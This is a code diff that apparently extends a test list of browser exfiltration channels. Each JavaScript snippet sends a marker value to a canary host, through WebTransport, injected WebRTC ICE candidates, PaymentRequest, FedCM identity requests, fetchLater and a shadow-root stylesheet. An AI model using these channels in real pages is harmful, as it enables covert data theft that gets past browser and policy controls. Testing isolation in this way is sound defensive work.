@@ -65,6 +65,18 @@ WAYS = {
     "{urls: `turn:${datagrams}`, username: '4111', credential: 'x'}, "
     "{urls: `turn:${tcp}?transport=tcp`, username: '4111', credential: 'x'}]});"
     "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
+    "transport by datagrams": "new WebTransport(`https://${datagrams}/transport?4111`).ready.catch(() => 0)",
+    "candidates of a call": "(async () => { const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];"
+    "a.createDataChannel('x'); await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription);"
+    "await b.setLocalDescription(); await a.setRemoteDescription(b.localDescription);"
+    "for (const there of [`udp 2122260223 ${datagrams.replace(':', ' ')} typ host`,"
+    "`tcp 1518280447 ${tcp.replace(':', ' ')} typ host tcptype passive`])"
+    "await a.addIceCandidate({candidate: `candidate:1 1 ${there}`, sdpMLineIndex: 0}) })()",
+    "payment": "new PaymentRequest([{supportedMethods: canary + '/payment?4111'}],"
+    "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)",
+    "identity": "navigator.credentials.get({identity: {providers: [{configURL: canary + '/identity?4111', clientId: '1'}]}})"
+    ".catch(() => 0)",
+    "what is fetched later": "fetchLater(canary + '/later', {method: 'POST', body: '4111', activateAfter: 0})",
     "style of a shadow": "const h = document.createElement('div'); document.body.append(h);"
     "h.attachShadow({mode: 'closed'}).innerHTML = `<style>:host {background: url(${canary}/shadow?4111)}</style>x`",
     "redirect of a fetch": "fetch('/away?' + canary + '/refetch', {mode: 'no-cors'}).catch(() => 0)",
